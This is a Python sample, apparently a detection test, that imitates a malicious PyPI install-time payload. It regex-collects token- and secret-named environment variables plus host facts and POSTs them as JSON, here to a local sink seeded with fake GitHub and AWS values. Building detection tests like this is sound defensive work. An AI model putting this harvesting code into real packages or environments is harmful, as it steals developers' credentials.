# technique: T1552.001 T1041 T1195.002
"""Unsecured credentials: environment tokens stolen by an install-time payload (T1552.001, T1041, T1195.002).

Mimics the typo-squatted PyPI packages that, from setup.py or the package
__init__, walk os.environ for anything that looks like a token (AWS_, GITHUB_,
NPM_, *_TOKEN, *_SECRET), add host facts, and POST the JSON to a collector
with urllib. Unlike the obvious spelling the variable names are matched by a
regex over the environment mapping (no literal "AWS_SECRET_ACCESS_KEY" read)
and the request is built with urllib.request.Request + json.

A good detector raises a high alert: secret-looking environment values are
read and then sent over the network by the same process.
"""
import http.server, json, os, platform, re, socket, threading, urllib.request

class Sink(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass

srv = http.server.HTTPServer(("127.0.0.1", 0), Sink)
threading.Thread(target=srv.serve_forever, daemon=True).start()
os.environ.setdefault("GITHUB_TOKEN", "ghp_redteamfakefakefakefakefakefake00")
os.environ.setdefault("AWS_SECRET_ACCESS_KEY", "fakefakefakefakefakefakefakefakefakefake")
try:
    pat = re.compile(r"(TOKEN|SECRET|KEY|PASS|AWS_|NPM_|PYPI)", re.I)
    loot = {k: v for k, v in os.environ.items() if pat.search(k)}
    loot["_host"] = [socket.gethostname(), platform.platform(), os.getcwd()]
    req = urllib.request.Request(f"http://127.0.0.1:{srv.server_address[1]}/c",
                                 data=json.dumps(loot).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=3).read()
except Exception:
    pass
finally:
    srv.shutdown()
